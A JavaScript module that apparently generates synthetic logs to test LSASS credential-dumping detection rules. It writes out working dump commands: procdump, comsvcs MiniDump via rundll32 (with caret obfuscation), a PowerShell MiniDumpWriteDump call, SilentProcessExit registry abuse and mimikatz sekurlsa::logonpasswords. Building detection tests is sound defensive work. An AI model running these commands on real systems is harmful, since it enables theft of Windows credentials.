import { hosts, session, users } from './estate.mjs';
import { libraries, programs, renamed } from './programs.mjs';

const { ws101, ws102, fs01, dc01 } = hosts;
const kernelbase = 'C:\\Windows\\System32\\KERNELBASE.dll';
const dbghelp = 'C:\\Windows\\SYSTEM32\\dbghelp.dll';
const dbgcore = 'C:\\Windows\\SYSTEM32\\dbgcore.DLL';
const comsvcsDll = 'C:\\Windows\\System32\\comsvcs.dll';

const every = '0x1fffff';
const opened = ['lsass-opened-for-reading'];

/**
 * One intruder goes through the estate and dumps LSASS by one way after another. Each record carries the rules of the
 * pack that must hit it; what carries none must stay silent.
 */
export function attack(book, clock, [ingrid, mats]) {
  const high = { ...ingrid.desk, integrity: 'High' };
  const shell = book.start(ws101, clock('08:38'), programs.cmd, {
    parent: ingrid.explorer,
    as: high,
    commandLine: 'cmd.exe',
  });
  procdumpByName(book, clock('08:43'), high, shell);
  taskManager(book, clock('08:52'), high, ingrid.explorer);
  renamedProcdump(book, clock('09:20'));
  procdumpByPid(book, clock('09:34'));
  comsvcsWithBlanks(book, clock('09:48'));
  comsvcsWithCarets(book, clock('10:05'));
  comsvcsByOrdinal(book, clock('10:27'));
  dumpert(book, clock('10:51'), { ...mats.desk, integrity: 'High' }, mats.explorer);
  powershell(book, clock('11:16'), high, shell);
  silentExit(book, clock('11:31'));
  renamedComsvcs(book, clock('11:44'));
  mimikatz(book, clock('11:58'));
}

/** Logs the stolen account on to a host over the network and gives its privileged session. */
function arrive(book, host, at) {
  const as = session(host, users['mats.eriksen'], { terminal: 0, integrity: 'High' });
  book.logon(host, at - 2_000, as, 3, { name: '-', address: ws101.address }, true);
  return as;
}

function procdumpByName(book, at, as, parent) {
  const tool = renamed(programs.procdump, 'C:\\Users\\Public\\procdump64.exe');
  const folder = 'C:\\Users\\Public\\';
  const commandLine = 'procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp';
  const dump = book.start(ws101, at, tool, { parent, as, commandLine, folder }, ['lsass-procdump-by-name']);
  book.value(
    ws101,
    at + 20,
    dump,
    `HKU\\${as.user.sid}\\SOFTWARE\\Sysinternals\\ProcDump\\EulaAccepted`,
    'DWORD (0x00000001)',
  );
  book.load(ws101, at + 60, dump, libraries.dbghelp);
  book.load(ws101, at + 70, dump, libraries.dbgcore);
  book.open(ws101, at + 150, dump, ws101.running.lsass, every, [kernelbase], opened);
  book.open(ws101, at + 210, dump, ws101.running.lsass, every, [dbgcore, dbghelp, kernelbase], opened);
  book.handle(ws101, at + 150, dump, 'Process', '\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe', '0x10');
  book.file(ws101, at + 400, dump, 'C:\\Users\\Public\\lsass.dmp', ['lsass-dump-file']);
  book.stop(ws101, at + 2_600, dump);
}

function taskManager(book, at, as, parent) {
  const manager = book.start(ws101, at, programs.taskmgr, { parent, as, commandLine: `"${programs.taskmgr.path}" /4` });
  book.open(ws101, at + 700, manager, ws101.running.lsass, '0x1400', [kernelbase]);
  book.load(ws101, at + 19_000, manager, libraries.dbgcore);
  book.open(ws101, at + 19_200, manager, ws101.running.lsass, every, [dbgcore, kernelbase], opened);
  const path = `C:\\Users\\${as.user.name}\\AppData\\Local\\Temp\\lsass.DMP`;
  book.file(ws101, at + 19_500, manager, path, ['lsass-dump-file', 'lsass-task-manager']);
  book.stop(ws101, at + 40_000, manager);
}

/** Through WMI, so the shell that starts it is recorded as well. */
function renamedProcdump(book, at) {
  const as = arrive(book, ws102, at);
  const tool = renamed(programs.procdump, 'C:\\ProgramData\\svcmon.exe');
  const commandLine = `C:\\ProgramData\\svcmon.exe -accepteula -ma ${ws102.running.lsass.pid} C:\\ProgramData\\report.bin`;
  const hits = ['lsass-procdump-by-pid', 'lsass-procdump-renamed'];
  const shell = book.start(
    ws102,
    at,
    programs.cmd,
    { parent: ws102.running.wmi, as, commandLine: `cmd.exe /Q /c ${commandLine}` },
    hits,
  );
  const dump = book.start(ws102, at + 60, tool, { parent: shell, as, commandLine, folder: 'C:\\ProgramData\\' }, hits);
  book.load(ws102, at + 120, dump, libraries.dbgcore);
  book.open(ws102, at + 200, dump, ws102.running.lsass, every, [dbgcore, dbghelp, kernelbase], opened);
  book.file(ws102, at + 450, dump, 'C:\\ProgramData\\report.bin');
  book.stop(ws102, at + 2_000, dump);
  book.stop(ws102, at + 2_050, shell);
}

function procdumpByPid(book, at) {
  const as = arrive(book, fs01, at);
  const commandLine = `procdump64.exe -accepteula -ma ${fs01.running.lsass.pid} out.dmp`;
  const options = { parent: fs01.running.wmi, as, commandLine, folder: 'C:\\Tools\\' };
  const dump = book.start(fs01, at, programs.procdump, options, ['lsass-procdump-by-pid']);
  book.open(fs01, at + 200, dump, fs01.running.lsass, every, [dbgcore, dbghelp, kernelbase], opened);
  book.file(fs01, at + 450, dump, 'C:\\Tools\\out.dmp');
  book.stop(fs01, at + 2_000, dump);
}

/** What rundll32 leaves behind while it dumps LSASS through a DLL that calls itself comsvcs. */
function minidump(book, host, at, { as, parent, commandLine, dll, output }, hits) {
  const run = book.start(host, at, programs.rundll32, { parent, as, commandLine }, hits);
  book.load(host, at + 40, run, dll, ['lsass-rundll32-loads-comsvcs']);
  book.load(host, at + 60, run, libraries.dbgcore);
  book.open(host, at + 130, run, host.running.lsass, '0x1410', [kernelbase], opened);
  book.open(host, at + 180, run, host.running.lsass, every, [dbgcore, dll.path, kernelbase], opened);
  book.file(host, at + 300, run, output);
  book.stop(host, at + 1_900, run);
}

function comsvcsWithBlanks(book, at) {
  const output = 'C:\\Windows\\Temp\\vm.dmp';
  const commandLine = `rundll32.exe ${comsvcsDll}, MiniDump ${fs01.running.lsass.pid} ${output} full`;
  const how = { as: arrive(book, fs01, at), parent: fs01.running.wmi, commandLine, dll: libraries.comsvcs, output };
  minidump(book, fs01, at, how, ['lsass-comsvcs-by-name', 'lsass-rundll32-any-order']);
}

/** As a service, whose shell is recorded with the carets that rundll32 never sees. */
function comsvcsWithCarets(book, at) {
  const output = 'C:\\Windows\\Temp\\vm2.dmp';
  const tail = `${fs01.running.lsass.pid} ${output}`;
  const disguised = `cmd.exe /Q /c rundll32 C:\\Windows\\System32\\c^omsvcs.d^ll, M^i^n^i^D^u^m^p ${tail} f^ull`;
  book.install(fs01, at - 3_000, `svc${fs01.random.hex(4)}`, disguised);
  const as = fs01.systemSession;
  const shell = book.start(fs01, at, programs.cmd, { parent: fs01.running.services, as, commandLine: disguised }, [
    'lsass-comsvcs-by-name',
  ]);
  const commandLine = `rundll32  ${comsvcsDll}, MiniDump ${tail} full`;
  const how = { as, parent: shell, commandLine, dll: libraries.comsvcs, output };
  minidump(book, fs01, at + 70, how, ['lsass-comsvcs-by-name', 'lsass-rundll32-any-order']);
  book.stop(fs01, at + 2_100, shell);
}

function comsvcsByOrdinal(book, at) {
  const as = arrive(book, dc01, at);
  const hits = ['lsass-comsvcs-by-ordinal', 'lsass-rundll32-any-order'];
  for (const [index, call] of [',#24', ', #+000024'].entries()) {
    const output = `C:\\Windows\\Temp\\d${index}.dmp`;
    const commandLine = `rundll32.exe ${comsvcsDll}${call} ${dc01.running.lsass.pid} ${output} full`;
    minidump(
      book,
      dc01,
      at + index * 360_000,
      { as, parent: dc01.running.wmi, commandLine, dll: libraries.comsvcs, output },
      hits,
    );
  }
}

/** The program, then the DLL. The calls to the kernel come from memory that belongs to no file. */
function dumpert(book, at, as, parent) {
  const output = 'C:\\Windows\\Temp\\dumpert.dmp';
  const options = { parent, as, commandLine: programs.dumpert.path, folder: 'C:\\Users\\Public\\' };
  const tool = book.start(ws102, at, programs.dumpert, options, { sysmon: ['lsass-dumpert-by-hash'] });
  book.open(ws102, at + 100, tool, ws102.running.lsass, every, ['UNKNOWN(000001F2C8A90000)'], opened);
  book.file(ws102, at + 300, tool, output, ['lsass-dumpert-by-file']);
  book.stop(ws102, at + 1_500, tool);
  const run = book.start(ws102, at + 420_000, programs.rundll32, {
    parent,
    as,
    commandLine: `rundll32.exe ${libraries.dumpert.path},Dump`,
  });
  book.load(ws102, at + 420_050, run, libraries.dumpert, ['lsass-dumpert-by-hash']);
  book.open(ws102, at + 420_100, run, ws102.running.lsass, every, ['UNKNOWN(000001F2C8A90000)'], opened);
  book.file(ws102, at + 420_300, run, output, ['lsass-dumpert-by-file']);
  book.stop(ws102, at + 421_500, run);
}

function powershell(book, at, as, parent) {
  const shell = book.start(ws101, at, programs.powershell, { parent, as, commandLine: 'powershell -nop -ep bypass' });
  book.load(ws101, at + 300, shell, libraries.automation);
  const target =
    '$target = Get-Process -Name lsass; $file = [IO.File]::Create("C:\\ProgramData\\lsass_$($target.Id).dmp")';
  const declared =
    'Add-Type -Name D -Namespace W -MemberDefinition \'[DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr p, uint id, IntPtr f, int kind, IntPtr a, IntPtr b, IntPtr c);\'';
  const call =
    '[W.D]::MiniDumpWriteDump($target.Handle, $target.Id, $file.SafeFileHandle.DangerousGetHandle(), 2, 0, 0, 0)';
  book.script(ws101, at + 9_000, target);
  book.script(ws101, at + 12_000, declared, ['lsass-powershell-minidump']);
  book.command(ws101, at + 12_100, as, 'Add-Type', 'ParameterBinding(Add-Type): name="Name"; value="D"\r\n');
  book.script(ws101, at + 15_000, call, ['lsass-powershell-minidump']);
  book.open(ws101, at + 15_100, shell, ws101.running.lsass, every, [dbgcore, dbghelp, kernelbase], opened);
  book.file(ws101, at + 15_300, shell, `C:\\ProgramData\\lsass_${ws101.running.lsass.pid}.dmp`, ['lsass-dump-file']);
  book.stop(ws101, at + 90_000, shell);
}

/** Error reporting is told to write the dump, and does. */
function silentExit(book, at) {
  const as = arrive(book, fs01, at);
  const root = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion';
  const settings = [
    [`${root}\\Image File Execution Options\\lsass.exe`, 'GlobalFlag', 'DWORD (0x00000200)'],
    [`${root}\\SilentProcessExit\\lsass.exe`, 'ReportingMode', 'DWORD (0x00000002)'],
    [`${root}\\SilentProcessExit\\lsass.exe`, 'LocalDumpFolder', 'C:\\ProgramData\\d'],
    [`${root}\\SilentProcessExit\\lsass.exe`, 'DumpType', 'DWORD (0x00000002)'],
  ];
  for (const [index, [key, name, details]] of settings.entries()) {
    const moment = at + index * 4_000;
    const commandLine = `reg add "${key}" /v ${name} /f`;
    const reg = book.start(fs01, moment, programs.reg, { parent: fs01.running.wmi, as, commandLine });
    book.key(fs01, moment + 30, reg, `${key}\\`);
    book.value(fs01, moment + 40, reg, `${key}\\${name}`, details, ['lsass-error-reporting']);
    book.stop(fs01, moment + 300, reg);
  }
  const { pid } = fs01.running.lsass;
  const moment = at + 30_000;
  const commandLine = `${programs.werfault.path} -s -t 4160 -i ${pid} -e ${pid} -c 0`;
  const fault = book.start(fs01, moment, programs.werfault, { parent: fs01.running.dcom, commandLine });
  book.open(fs01, moment + 100, fault, fs01.running.lsass, every, [dbgcore, dbghelp, kernelbase], opened);
  const path = `C:\\ProgramData\\d\\lsass.exe-(PID-${pid})-98120\\lsass.exe-(PID-${pid}).dmp`;
  book.file(fs01, moment + 400, fault, path, ['lsass-dump-file']);
  book.stop(fs01, moment + 1_000, fault);
}

function renamedComsvcs(book, at) {
  const as = arrive(book, dc01, at);
  const copy = renamed(libraries.comsvcs, 'C:\\ProgramData\\cs.dll');
  const shell = book.start(dc01, at, programs.cmd, {
    parent: dc01.running.wmi,
    as,
    commandLine: `cmd.exe /c copy ${comsvcsDll} ${copy.path}`,
  });
  book.file(dc01, at + 60, shell, copy.path);
  book.stop(dc01, at + 120, shell);
  const output = 'C:\\ProgramData\\r.bin';
  const commandLine = `rundll32.exe ${copy.path}, MiniDump ${dc01.running.lsass.pid} ${output} full`;
  minidump(book, dc01, at + 20_000, { as, parent: dc01.running.wmi, commandLine, dll: copy, output }, [
    'lsass-rundll32-any-order',
  ]);
}

function mimikatz(book, at) {
  const as = arrive(book, dc01, at);
  const commandLine = 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit';
  const options = { parent: dc01.running.wmi, as, commandLine, folder: 'C:\\ProgramData\\' };
  const tool = book.start(dc01, at, programs.mimikatz, options, ['lsass-sekurlsa-command']);
  book.open(dc01, at + 150, tool, dc01.running.lsass, '0x1010', [kernelbase], opened);
  book.stop(dc01, at + 900, tool);
}
